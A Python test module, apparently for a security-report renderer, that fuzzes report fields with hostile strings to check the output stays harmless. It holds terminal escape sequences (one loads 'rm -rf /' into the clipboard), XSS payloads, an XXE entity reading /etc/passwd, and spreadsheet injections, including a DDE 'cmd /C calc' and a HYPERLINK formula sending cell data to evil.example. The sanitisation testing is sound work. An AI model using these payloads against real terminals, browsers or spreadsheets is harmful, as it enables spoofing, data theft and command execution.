"""Texts that a target could put anywhere, and what makes an output of them harmless."""

from __future__ import annotations

import unicodedata
from typing import Any

from hypothesis import strategies as st

from tests.reports.builders import control, profile, report, result

ACTIVE = "document.title='owned'"

TERMINAL = {
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "title": "\x1b]0;owned\x07",
    "screen": "\x1b[2J\x1b[H\x1b[31mall passed",
    "c1": "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "bidi": "user\u202e \u2066// admin\u2069 \u2066\u202a\u202b\u202d\u202c",
    "zero width": "pass\u200b\u200c\u200d\u2060ed\u061c",
    "nul": "a\x00b\x7f\x08\x08",
    "bom": "\ufeffa\ufffe\uffff",
    "lines": "a\r\nb\rc\n[9/9] docker://other: 0 failed\v\f\x85\u2028\u2029d",
    "surrogates": "\ud800x\udfff",
    "tags": "\U000e0041\U000e0042",
    "fillers": "root\u3164\u115f\uffa0",
    "marks": "a" + "\u0301" * 500,
}
MARKUP = {
    "cdata": "]]> <![CDATA[ ]]>",
    "script": f"<script>{ACTIVE}</script>",
    "comment": f'--><img src="x" onerror="{ACTIVE}">',
    "attribute": f'" onmouseover="{ACTIVE}" autofocus onfocus="{ACTIVE}" x="',
    "quote": f"' onfocus='{ACTIVE}' x='",
    "raw text": f"</style></title></textarea></script><script>{ACTIVE}</script>",
    "frame": f'<iframe srcdoc="<script>parent.{ACTIVE}</script>"></iframe><svg onload="{ACTIVE}">',
    "entity": "&lt;b&gt; &amp;amp; &#0; &x; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "base": '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">',
}
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "dde": "=cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line": "\n=1+1",
    "spaces": "  =1+1",
    "quotes": "\"'=1+1",
    "full width": "\uff1d1+1",
    "full width at": "\uff20SUM(1)",
    "next cell": "a;=1+1;\t=1+1",
    "cell by quotes": 'a","=1+1","',
    "next line": "a\n=1+1",
}
RICH = {
    "mark-up": "[bold red]x[/] [link=http://evil.example]y[/link] [/dim] [@click=app.bell]z[/]",
    "emoji": ":skull: :warning:",
    "backslashes": "ends in \\\\\\",
}
TEXTS = TERMINAL | MARKUP | FORMULAS | RICH

texts = st.text(st.characters(codec=None), max_size=60) | st.builds(
    "".join,
    st.lists(st.sampled_from([*TEXTS.values(), "x", " ", "=", "'", ";", "\n", "\t"]), max_size=4),
)
"""Any text at all, and any made of the above."""


def is_drawn(text: str, kept: str = "\n") -> bool:
    """Return whether a terminal draws every character, and obeys none but those that are kept."""
    unseen = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    return all(char in kept or unicodedata.category(char) not in unseen for char in text)


def everywhere(text: str) -> dict[str, Any]:
    """Return a report with a text in every place that takes one, with a control of each status."""
    controls = (
        control(f"{text}failed", title=text, desc=text, results=[result("failed", message=text)]),
        control(f"{text}skipped", title=text, results=[result("skipped", skip_message=text)]),
        control(f"{text}error", title=text, results=[result("error", exception=text, backtrace=[text])]),
        control(f"{text}passed", title=text, results=[result("passed", code_desc=text)]),
        control(f"{text}empty", title=text),
        control(f"{text}na", "failed", title=text, impact=0),
    )
    for each in controls:
        each["tags"] = {"nist": [text, 3, None], "severity": text, "check": text, text: text}
        each["descriptions"] = [{"label": text, "data": text}, {"label": "fix", "data": text}, text, 7]
        for one in each["results"]:
            one |= {"code_desc": text, "start_time": text, "run_time": text}
    return report(
        profile(text, *controls, title=text, version=text),
        profile("x", status="failed", status_message=text),
        platform={"name": text, "release": text, "target_id": text},
    )
